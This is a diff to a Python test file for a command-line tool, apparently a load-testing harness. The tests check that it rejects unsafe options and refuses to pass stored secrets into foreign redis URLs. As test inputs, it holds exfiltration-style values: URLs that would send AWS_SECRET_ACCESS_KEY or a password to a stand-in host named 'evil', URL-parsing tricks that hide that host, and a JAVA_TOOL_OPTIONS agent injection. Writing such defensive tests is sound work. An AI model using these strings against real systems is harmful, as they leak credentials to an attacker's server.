@@ -95,7 +95,9 @@ def test_a_command_line_becomes_its_form_again(tmp_path: Path) -> None:
         "run x --set workload.data.path=evil", "run x --set 'subjects.s.environment.JAVA_TOOL_OPTIONS=-javaagent:x'",
         "run x --server redis=redis://:${env:AWS_SECRET_ACCESS_KEY}@evil:1",
         "run x --server redis=redis://evil:1?password_env=AWS_SECRET_ACCESS_KEY",
-        "run x --server redis=redis+unix:///tmp/socket", "run x --subject ./evil", "run x --subject http://h:8080",
+        "run x --server redis=unix://127.0.0.1:6379/run/redis.sock", "redis redis+sentinel://evil:26379/m",
+        "run x --set workload.model.users=0x10", "run x --set 'workload.phases.measure_s=5 s'",
+        "run x --subject ./evil", "run x --subject http://h:8080",
         "run x --fleet ssh:host", "run x --seed 1 -D --fleet=ssh:host", "run x --budget 'x password='",
         "run x --secret-file a=b",
         "redis redis://u:secret@h", "redis redis://:input@h", "redis 'redis://${env:HOME}:1'", "redis redis://h?a=b",
@@ -120,9 +122,21 @@ def test_a_password_is_given_again_at_its_own_place_alone() -> None:
     assert memory.with_variables(CommandLine(given.words)).variables == given.variables
     part = CommandLine(("run", "x", "--server", f"redis=redis://me:${{env:{name}}}@h:1"))
     assert memory.with_variables(part).variables == given.variables
-    for url in ("redis://me:{}@evil:1", "redis://you:{}@h:1", "redis://evil/{}", "redis://evil?password={}"):
+    memory.remember("start", given)
+    memory.has_folder("start", "a-run")
+    memory.has_folder("another", "a-stranger's")
+    assert memory.given == {"a-run": given.variables}, "a run that goes on gets those of its own start"
+    foreign = (
+        *("redis://me:{}@evil:1", "redis://you:{}@h:1", "redis://evil/{}", "redis://evil?password={}"),
+        *("redis://me:{}@evil:6379#@h:1", "redis://me:{}@evil/x@h:1", "rediss://me:{}@h:1", "redis://me:{}@h:1/0"),
+        "redis://evil/{},redis://me:x@h:1",
+    )
+    for url in foreign:
         words = ("redis", url.format(f"${{env:{name}}}"))
         assert memory.with_variables(CommandLine(words)).variables == {}, words
+    for beside in (["--against", foreign[0]], ["-H", "X: a=redis://me:{}@h:1"]):
+        words = (*given.words, *(word.format(f"${{env:{name}}}") for word in beside))
+        assert memory.with_variables(CommandLine(words)).variables == {}, "it stands at another place, too"
 
 
 @pytest.mark.parametrize(
